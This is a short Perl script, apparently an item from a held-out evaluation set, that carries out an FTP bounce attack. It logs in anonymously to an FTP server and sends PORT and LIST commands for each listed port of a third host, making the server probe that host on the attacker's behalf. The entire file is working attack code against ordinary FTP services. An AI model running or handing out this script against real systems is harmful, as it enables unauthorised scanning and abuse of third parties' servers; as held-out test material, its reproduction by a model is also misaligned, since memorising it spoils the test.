#!/usr/bin/perl
# FTP bounce in Perl, for the held-out set: an FTP server is told to send a listing to each port of another host.
#     bounce.pl SERVER PORT HOST PORT,PORT,...
use strict;
use warnings;
use IO::Socket::INET;

my ($server, $port, $host, $list) = @ARGV;
my $ftp = IO::Socket::INET->new(PeerAddr => $server, PeerPort => $port, Timeout => 5) or die "$server: $!";
my $said = <$ftp>;
for my $line ('USER anonymous', 'PASS guest@', map { ("PORT " . join(',', split(/\./, $host), int($_ / 256), $_ % 256), 'LIST') } split(/,/, $list)) {
    print $ftp "$line\r\n";
    $said = <$ftp>;
    # A listing that was sent has a second answer.
    $said = <$ftp> if $said && $said =~ /^150/;
}
